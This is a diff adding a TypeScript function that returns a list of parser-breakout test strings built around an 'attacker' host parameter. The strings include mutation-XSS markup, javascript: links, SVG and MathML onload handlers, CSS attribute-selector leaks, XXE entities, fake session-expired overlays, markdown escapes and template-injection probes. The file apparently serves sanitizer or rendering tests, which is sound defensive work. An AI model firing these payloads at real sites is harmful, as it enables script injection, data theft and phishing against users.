@@ -1,0 +1,45 @@
+/**
+ * Strings that count on a parser: mutations of markup, SVG and MathML, style sheets that draw over the desk, and
+ * markdown that leaves its block. All of them lead to `attacker`.
+ */
+export function breakoutStrings(attacker: string): string[] {
+  return [
+    `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
+    `<template><script>alert('template')</script></template><template shadowrootmode=open><slot></slot></template>`,
+    `<svg></p><style><a id="</style><img src=x onerror=alert('svg-style')>">`,
+    `<math><annotation-xml encoding="text/html"><iframe src="${attacker}/annotation"></iframe></annotation-xml></math>`,
+    `<math><maction actiontype="statusline#${attacker}" href="javascript:alert('maction')">x</maction></math>`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src=${attacker}/mglyph.png onerror=alert(1)>`,
+    `<table><tr><td background="${attacker}/cell.png"><marquee onstart=alert('marquee')>Approved</marquee><plaintext>`,
+    `<textarea></textarea><title></title><xmp></xmp><img src=${attacker}/raw-text.png></textarea></title></xmp>`,
+    `</p></div></main></body></html><h1>The desk has moved</h1><a href="${attacker}/moved">Sign in</a>`,
+    `--></script></style></title></textarea><svg/onload=alert('closers')>`,
+    `<svg><animate xlink:href=#root attributeName=href values="javascript:alert('animate')"/><a id=root><text y=20>x</text></a></svg>`,
+    `<svg><set attributeName="onmouseover" to="alert('set')"/><foreignObject><body onload=alert('foreign')></foreignObject></svg>`,
+    `<svg><image xlink:href="${attacker}/xlink.svg"/><feImage href="${attacker}/filter.svg#x"/></svg>`,
+    `<?xml-stylesheet href="${attacker}/sheet.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${attacker}/entity">]><x>&e;</x>`,
+    `<style>@import url(${attacker}/import.css); @font-face{font-family:x;src:url(${attacker}/font.woff2)} *{font-family:x}</style>`,
+    `<b style="width:expression(alert('expression'));-moz-binding:url(${attacker}/xbl);behavior:url(${attacker}/htc)">old</b>`,
+    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has ended. <a href="${attacker}/again">Go on</a></div>`,
+    `<style>section.slip footer button:first-of-type::after{content:"Don’t send"} .decide[aria-disabled]{opacity:1}</style>`,
+    `<style>input[value^="a"]{background:url(${attacker}/leak-a)} :root{--accent:red} bdi{unicode-bidi:normal}</style>`,
+    `}</style><style>*{cursor:url(${attacker}/cursor.cur),auto} dialog::backdrop{background:url(${attacker}/backdrop)}`,
+    `[x]: javascript:alert('definition')\n[y]: <${attacker}/definition> 'title" onclick="alert(1)'\n\n[x] [y] ![y]`,
+    `<javascript:alert('auto')> <data:text/html,x> <mailto:a@b.example?subject=%0d%0aBcc:c@d.example>`,
+    `[a](<javascript:alert('angle')>) [b](&#106;avascript&colon;alert('entity')) [c](\\javascript:alert('escape'))`,
+    `[d](//${new URL(attacker).host}/no-scheme) [e](\\\\${new URL(attacker).host}\\share) [f](/api/sessions) [g](#root)`,
+    `| a | b |\n| :-: | --- |\n| <img src=x onerror=alert('cell')> | \\| <svg/onload=alert('pipe')> | extra |`,
+    '```\n<b>inside</b>\n```\n<script>alert("after the fence")</script>\n~~~js {onload=alert(1)}\n````\n<iframe src=javascript:alert(1)>',
+    `> - 1. <details open ontoggle=alert('nested')><summary onclick=alert(1)>More</summary>\n>\n>       <img src=${attacker}/deep.png>`,
+    `<div markdown="1" onclick="alert('block')">\n\n**[Approve](javascript:alert('inside'))**\n\n</div>`,
+    `https://desk.example@${new URL(attacker).host}/user www.${new URL(attacker).host} someone@${new URL(attacker).host}`,
+    `a\u0000b <scr\u0000ipt>alert('null')</scr\u0000ipt> \uFFFD\uFEFF\u00AD\u2028\u2029\u0085`,
+    `\u061C\u200E\u200F\u202A\u202B\u202D\u2067\u2068 right\u05D0\u05D1 to left \u202C\u2069\u{E0041}\u{E0042}\u180E\u3164`,
+    `Z\u0351\u0352\u0353a\u0334\u0335l\u0336\u0337g\u0338o${'\u0301\u0302\u0303'.repeat(120)}`,
+    `<x contenteditable autofocus onfocus=alert('focus') tabindex=1 accesskey=k popover=auto id=content>focus me</x>`,
+    `<button popovertarget=content formaction="${attacker}/button" type=submit form=location>Don’t send</button>`,
+    `<a href="${attacker}/${'very/long/'.repeat(300)}" target=_top download=x>${'W'.repeat(800)}</a>`,
+    `<img/src=x/onerror=alert\`slash\`><svg\u000Conload\u000C=\u000Calert(1)><a href=" \u0001javascript:alert('control')">x</a>`,
+    `\${{7*7}}#{7*7}{{= it.x }}{% include "${attacker}/tpl" %}<%- include('${attacker}') %>__proto__ constructor toString`,
+  ];
+}
